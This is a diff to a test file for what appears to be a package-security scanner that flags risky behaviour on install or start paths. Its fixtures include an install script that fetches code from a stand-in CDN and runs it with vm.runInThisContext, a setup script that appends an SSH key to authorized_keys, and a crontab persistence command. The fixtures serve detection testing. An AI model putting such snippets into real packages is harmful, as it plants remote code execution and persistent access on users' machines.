@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import type { CodeFacts } from '../code/code-facts.js';
 import { javascriptFacts } from '../code/javascript/index.js';
 import { pythonFacts } from '../code/python-facts.js';
-import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
+import { CAPABILITY_COOCCURRENCE_TITLE, CAPABILITY_FLOW_TITLE, CAPABILITY_PLANT_TITLE, CAPABILITY_REMOTE_EXEC_TITLE, capabilityFindings, capabilityModule, type AutoRunEntry, type CapabilityModule } from './capability-findings.js';
 import { SECRET_OR_USER_DATA_SOURCE, capabilityProfile } from './capability-profile.js';
 import { packageIdentity } from './package-identity.js';
 
@@ -192,6 +192,33 @@ setup(name="helper", cmdclass={"install": Post})
       'pkg/report.py': `import urllib.request\n\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request("https://metrics.example/in", data=d.encode()))\n`,
     };
     expect(judge(files, [{ rel: 'pkg/__main__.py', when: 'start' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_FLOW_TITLE, 'pkg/server.py']]);
+  });
+
+  it('code another module fetched, run on an automatic path: CRIT; the same loader behind an API nobody calls at load: nothing', () => {
+    const files = {
+      'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nasync function main() {\n  const src = await loader.get('hooks.js');\n  vm.runInThisContext(src);\n}\nmain();\n`,
+      'lib/loader.js': `exports.get = async (name) => (await fetch('https://cdn.hooks.example/' + name)).text();\n`,
+    };
+    expect(judge(files, [{ rel: 'install.js', when: 'install' }]).map((f) => [f.severity, f.title, f.category, f.line])).toEqual([['CRIT', CAPABILITY_REMOTE_EXEC_TITLE, 'remote_code_execution', 5]]);
+    const lazy = { ...files, 'install.js': `const loader = require('./lib/loader');\nconst vm = require('vm');\nexports.load = async (n) => vm.runInThisContext(await loader.get(n));\n` };
+    expect(judge(lazy, [{ rel: 'install.js', when: 'load' }])).toEqual([]);
+    // Parsing what was fetched is no execution.
+    const parsed = { ...files, 'install.js': files['install.js'].replace('vm.runInThisContext(src)', 'JSON.parse(src)') };
+    expect(judge(parsed, [{ rel: 'install.js', when: 'install' }])).toEqual([]);
+  });
+
+  it('writes that plant access or persistence on an automatic path: authorized_keys CRIT, a crontab or shell startup file HIGH', () => {
+    const keys = {
+      'setup.js': `const ssh = require('./ssh');\nssh.enable();\n`,
+      'ssh.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.enable = () => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA deploy');\n`,
+    };
+    expect(judge(keys, [{ rel: 'setup.js', when: 'install' }]).map((f) => [f.severity, f.title, f.file])).toEqual([['CRIT', CAPABILITY_PLANT_TITLE, 'ssh.js']]);
+    const cron = { 'setup.js': `const { execSync } = require('child_process');\nexecSync('(crontab -l; echo "*/5 * * * * ' + cmd + '") | crontab -');\n` };
+    expect(judge(cron, [{ rel: 'setup.js', when: 'install' }]).map((f) => f.severity)).toEqual(['HIGH']);
+    // The same writes behind a command the user runs are not automatic; listing a crontab is no write.
+    expect(judge(keys, [])).toEqual([]);
+    const list = { 'setup.js': `const { execSync } = require('child_process');\nconst jobs = execSync('crontab -l').toString();\n` };
+    expect(judge(list, [{ rel: 'setup.js', when: 'install' }])).toEqual([]);
   });
 
   it('a read and an outside send on one automatic path with no flow between them: HIGH co-occurrence', () => {
